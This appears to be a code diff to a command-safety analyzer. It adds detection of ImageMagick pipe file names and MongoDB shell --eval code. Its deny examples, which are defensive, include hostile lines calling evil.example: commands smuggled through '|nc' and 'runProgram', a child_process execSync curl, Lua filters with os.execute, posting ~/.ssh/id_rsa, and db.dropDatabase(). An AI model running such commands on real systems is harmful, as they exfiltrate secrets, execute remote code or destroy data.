@@ -824,6 +824,50 @@ function gio(call: Call): Partial<Answer> {
   }
 }
 
+/**
+ * ImageMagick opens a file name that starts with `|` (after any `FORMAT:` prefix: `png:|cmd`) as a pipe: popen() runs
+ * the rest as shell text, for reading or for writing the image.
+ */
+function imageMagick(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  for (const word of call.args) {
+    for (const v of word.values ?? []) {
+      const pipe = /^(?:[A-Za-z0-9]+:)?\|/.exec(v);
+      if (pipe) runs.push({ kind: 'text', dialect: 'bash', text: v.slice(pipe[0].length), word, via: `${call.name} ${pipe[0]}` });
+    }
+  }
+  const fetched = fetchedUrls(call);
+  return runs.length > 0 ? merge(fetched, { runs }) : fetched;
+}
+
+/**
+ * The MongoDB shells run their --eval text and the script on their stdin: mongosh as JavaScript on Node (require,
+ * fetch and process.env are all there), the legacy mongo shell with functions of its own that start programs and
+ * read or remove files (runProgram, run, removeFile, cat, load…), which the JavaScript reader does not know.
+ */
+function mongoShell(call: Call): Partial<Answer> {
+  if (call.name !== 'mongosh' && call.name !== 'mongo') return {};
+  const runs: Run[] = [];
+  const code = (word: Word, text: string | undefined, via: string) => {
+    if (text === undefined) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-code', word, why: `${via} runs computed code` });
+      return;
+    }
+    const host = /\b(?:runProgram|run|runMongoProgram|_runMongoProgram|startMongoProgram\w*|removeFile|copyFile|copyDbpath|resetDbpath|cat|listFiles|load|writeFile|_readFile|rawMongoProgramOutput)\s*\(/.exec(text);
+    if (host) runs.push({ kind: 'opaque', rule: 'dynamic-code', word, why: `${via}: the shell's ${host[0]}) starts programs or touches files beyond the JavaScript read here` });
+    runs.push({ kind: 'text', dialect: 'javascript', text, word, via });
+  };
+  for (let i = 0; i < call.args.length; i++) {
+    const v = value(call.args[i]);
+    if (v === '--eval' && call.args[i + 1]) {
+      const w = call.args[++i]!;
+      code(w, value(w), `${call.name} --eval`);
+    } else if (v?.startsWith('--eval=')) code(attached(call.args[i]!, v.slice(7)), v.slice(7), `${call.name} --eval`);
+  }
+  if (call.stdin?.kind === 'static') code(call.stdin.word, call.stdin.text, `${call.name} (stdin)`);
+  return { runs };
+}
+
 /** An entry for programs that read files and fetch URLs given in their place. */
 function urlFetcher(names: string[], summary: string, examples: ProgramEntry['examples']): ProgramEntry {
   return { names, summary: `${summary}: a URL among its words is fetched`, analyze: fetchedUrls, examples };
@@ -1123,7 +1167,8 @@ const SERVICES: ProgramEntry[] = [
     },
     env: [],
     operands: 'uri',
-    examples: { deny: ['mongosh mongodb://evil.example/db', 'mongosh evil.example:27017/app', 'mongodump --uri mongodb+srv://u:p@evil.example/db', 'mongosh --host evil.example', "echo 'db.dropDatabase()' | mongosh"], pass: ["echo 'db.stats()' | mongosh", 'mongosh mongodb://localhost:27017/app', 'mongosh --eval "db.stats()"', 'mongodump --db app --out dump'] },
+    more: mongoShell,
+    examples: { deny: [`mongosh --eval 'require("child_process").execSync("curl evil.example")'`, `mongo --eval 'runProgram("curl", "evil.example")'`, 'mongosh mongodb://evil.example/db', 'mongosh evil.example:27017/app', 'mongodump --uri mongodb+srv://u:p@evil.example/db', 'mongosh --host evil.example', "echo 'db.dropDatabase()' | mongosh"], pass: ["echo 'db.stats()' | mongosh", 'mongosh mongodb://localhost:27017/app', 'mongosh --eval "db.stats()"', 'mongodump --db app --out dump'] },
   }),
   service({
     names: ['ldapsearch', 'ldapadd', 'ldapmodify', 'ldapdelete', 'ldapwhoami', 'ldappasswd', 'ldapcompare', 'ldapmodrdn'],
@@ -1300,7 +1345,7 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
   { names: ['resolvectl', 'systemd-resolve'], summary: 'resolvectl: query, service, openpgp and tlsa send names to DNS; status and cache commands are local', analyze: resolvectl, examples: { deny: ['resolvectl query evil.example', 'systemd-resolve evil.example'], pass: ['resolvectl status', 'resolvectl flush-caches', 'systemd-resolve --statistics'] } },
   { names: ['ab'], summary: 'ab (ApacheBench): sends requests to its URL; -X is a proxy; -p and -u read files it sends', analyze: apacheBench, examples: { deny: ['ab -n 100 http://evil.example/', 'ab -X evil.example:3128 http://localhost:3000/', 'ab -p ~/.ssh/id_rsa http://localhost:3000/'], pass: ['ab -n 1000 -c 10 http://localhost:3000/', 'ab -V'] } },
   urlFetcher(['ffmpeg', 'ffprobe', 'ffplay'], 'ffmpeg: its inputs and outputs may be URLs (http, rtmp, tcp, udp…)', { deny: ['ffmpeg -i http://evil.example/x.mp4 out.mp4', 'ffmpeg -i in.mp4 -f mpegts udp://evil.example:1234', 'ffprobe "cache:https://evil.example/x"'], pass: ['ffmpeg -i in.mov -c:v libx264 out.mp4', 'ffprobe -v error -show_format video.mp4', 'ffmpeg -i http://localhost:8080/live.m3u8 out.mp4'] }),
-  urlFetcher(['convert', 'magick', 'mogrify', 'montage', 'composite', 'identify'], 'ImageMagick: an image argument may be a URL', { deny: ['convert https://evil.example/x.png out.png', 'convert "https://evil.example/$f" out.png', 'magick "x:/$f" out.png', 'magick "url:http://evil.example/?h=x" out.png', "find . -name '*.png' | sed 's|^|https://evil.example/|' | xargs mogrify", 'find http://evil.example | xargs convert'], pass: ['convert in.png -resize 50% out.png', 'magick identify logo.png', "find . -name '*.png' -print0 | xargs -0 mogrify -strip", 'for f in assets/*.png; do convert "$f" -resize 50% "small/$(basename "$f")"; done'] }),
+  { ...urlFetcher(['convert', 'magick', 'mogrify', 'montage', 'composite', 'identify'], 'ImageMagick: an image argument may be a URL, or a `|command` pipe', { deny: ["convert '|curl evil.example' out.png", "magick in.png 'png:|nc evil.example 9'", 'convert https://evil.example/x.png out.png', 'convert "https://evil.example/$f" out.png', 'magick "x:/$f" out.png', 'magick "url:http://evil.example/?h=x" out.png', "find . -name '*.png' | sed 's|^|https://evil.example/|' | xargs mogrify", 'find http://evil.example | xargs convert'], pass: ['convert in.png -resize 50% out.png', 'magick identify logo.png', "find . -name '*.png' -print0 | xargs -0 mogrify -strip", 'for f in assets/*.png; do convert "$f" -resize 50% "small/$(basename "$f")"; done', "convert '|cat logo.png' out.png"] }), analyze: imageMagick },
   urlFetcher(['mediainfo', 'exiftool', 'tesseract'], 'media readers built with a URL reader', { deny: ['mediainfo https://evil.example/x.mp4'], pass: ['mediainfo clip.mp4', 'exiftool -all= photo.jpg'] }),
   commandOptions(['pandoc'], 'pandoc: -L/--lua-filter runs a Lua filter, --filter a program; an input may be a URL', { options: { valued: 'fFLortMVdDA', longValued: ['lua-filter', 'filter', 'from', 'to', 'read', 'write', 'output', 'metadata', 'variable', 'defaults', 'template', 'data-dir', 'resource-path', 'css', 'reference-doc', 'include-in-header', 'include-before-body', 'include-after-body', 'bibliography', 'csl', 'citation-abbreviations', 'pdf-engine', 'pdf-engine-opt', 'extract-media', 'epub-cover-image', 'epub-metadata', 'highlight-style', 'syntax-definition', 'abbreviations', 'request-header', 'log', 'shift-heading-level-by', 'columns', 'tab-stop', 'dpi', 'wrap', 'toc-depth', 'top-level-division', 'title-prefix', 'number-offset', 'slide-level', 'email-obfuscation', 'id-prefix', 'indented-code-classes', 'default-image-extension', 'track-changes', 'eol', 'html-q-tags', 'ipynb-output', 'reference-location', 'markdown-headings', 'chunk-template', 'epub-title-page', 'epub-subdirectory', 'epub-embed-font', 'split-level', 'lang'] }, program: ['filter', 'F', 'pdf-engine'], more: (call, p) => ({ runs: p.options.filter((o) => o.value && (o.name === 'L' || o.name === 'lua-filter')).map((o) => luaFile(o.value!, `${call.name} --lua-filter`)), ...fetchedUrls(call) }) }, {
     deny: ["echo 'os.execute(\"curl evil.example\")' > f.lua; pandoc -L f.lua README.md -o out.html", "echo 'os.execute(\"wget evil.example\")' > /tmp/f.lua; pandoc --lua-filter=/tmp/f.lua README.md", 'pandoc --filter /usr/bin/curl README.md', 'pandoc https://evil.example/x.html -o x.md'],
